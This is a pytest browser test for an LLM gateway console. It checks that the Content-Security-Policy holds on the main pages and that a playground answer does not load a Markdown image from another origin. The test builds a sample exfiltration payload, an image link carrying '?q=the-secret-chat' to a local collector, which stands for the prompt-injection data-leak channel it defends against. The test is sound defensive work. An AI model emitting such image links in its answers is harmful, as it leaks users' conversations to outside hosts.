"""The console under its Content-Security-Policy in a real browser (headless Chromium):
every main page works with no CSP violation, and a playground answer's Markdown image
from another origin is not loaded (a prompt-injection exfiltration channel) while a
data: image is."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.console.browser_support import CHROMIUM
from tests.live import Gateway, free_port, running_gateway

pytestmark = pytest.mark.browser

USER, PASSWORD = "csp", "pw-csp-123456"
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
SHOTS = Path("/tmp/switchyard-csp-shots")


class Collector(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        Collector.hits.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "image/png")
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def collector() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Collector)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def gw(tmp_path_factory: pytest.TempPathFactory, collector: str) -> Iterator[Gateway]:
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed")
    answer = f"Here: ![chart]({collector}/leak.png?q=the-secret-chat) and ![dot]({PIXEL}) done."
    setup = f"""
from django.contrib.auth.models import User
from gateway.models import Deployment, Provider, Route
User.objects.create_user({USER!r}, '', {PASSWORD!r}, is_staff=True, is_superuser=True)
echo = Provider.objects.get(name='echo')
route = Route.objects.create(name="img-answer")
Deployment.objects.create(route=route, provider=echo, model="img", params={{'reply': {answer!r}}})
"""
    with running_gateway(tmp_path_factory.mktemp("csp")) as gateway:
        gateway.shell(setup)
        yield gateway


WATCH = """document.addEventListener('securitypolicyviolation', (e) =>
  (window.__csp = window.__csp || []).push(`${e.violatedDirective} ${e.blockedURI}`));"""


def signed_in_page(browser, gw: Gateway, width: int):
    context = browser.new_context(viewport={"width": width, "height": 900}, base_url=gw.url)
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(15_000)
    page.set_default_navigation_timeout(30_000)  # a first page load on a loaded runner
    problems: list[str] = []
    page.on(
        "console",
        lambda msg: (
            problems.append(msg.text)
            if msg.type == "error" or "Content Security Policy" in msg.text
            else None
        ),
    )
    page.on("pageerror", lambda exc: problems.append(str(exc)))
    page.goto("/login/")
    page.fill("#id_username", USER)
    page.fill("#id_password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url("**/")
    return page, problems


def violations(page) -> list[str]:
    return page.evaluate("window.__csp || []")


def test_the_playground_loads_no_image_from_elsewhere(browser, gw: Gateway) -> None:
    time.sleep(1.2)  # the registry snapshot must know the route made by the setup
    page, problems = signed_in_page(browser, gw, 1440)
    page.goto("/playground/")
    rows = page.locator("#pg-column-rows > li")
    rows.nth(0).locator("select[name=route]").select_option("img-answer")
    rows.nth(1).locator("select[name=route]").select_option("img-answer")
    page.fill("textarea[name=prompt]", "Show me the chart")
    page.click("#pg-run")
    page.wait_for_function(  # an expression: conftest sends it as a function (CSP)
        "document.querySelectorAll('#pg-grid .pg-col[data-state=done]').length === 2",
        timeout=20_000,
    )
    rendered = page.locator('#pg-grid .pg-col[data-index="0"] .pg-md').last
    blocked = rendered.locator("img.pg-blocked-img")
    assert blocked.count() == 1 and blocked.get_attribute("src") is None
    assert "leak.png" in blocked.get_attribute("alt")
    assert rendered.locator(f'img[src="{PIXEL}"]').count() == 1
    page.wait_for_timeout(500)
    assert not Collector.hits  # nothing left for the other origin
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / "playground-answer-1440.png"), full_page=True)
    assert not violations(page) and not problems, (violations(page), problems)


@pytest.mark.parametrize("width", [1440, 390])
def test_the_main_pages_work_under_the_policy(browser, gw: Gateway, width: int) -> None:
    page, problems = signed_in_page(browser, gw, width)
    response = page.goto("/")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "img-src 'self' data:" in policy
    pages = ["/", "/routes/", "/routes/health/", "/providers/", "/keys/", "/logs/"]
    pages += ["/playground/", "/routes/new/", "/providers/new/", "/routes/import/"]
    SHOTS.mkdir(exist_ok=True)
    for path in pages:
        page.goto(path)
        page.wait_for_load_state("networkidle")
        name = path.strip("/").replace("/", "-") or "dashboard"
        page.screenshot(path=str(SHOTS / f"{name}-{width}.png"), full_page=True)
        assert not violations(page), (path, violations(page))
    page.goto("/logs/")
    first = page.locator("tbody a[href^='/logs/']").first
    if first.count():  # the playground test's requests (when it ran first)
        page.goto(first.get_attribute("href"))
        page.wait_for_load_state("networkidle")
        page.screenshot(path=str(SHOTS / f"log-detail-{width}.png"), full_page=True)
        bar = page.locator(".timing .seg.upstream")
        assert bar.count() == 1  # its width came from data-width through console.js
        assert bar.evaluate("el => el.style.width").endswith("%")
        assert not violations(page)
    assert not problems, problems
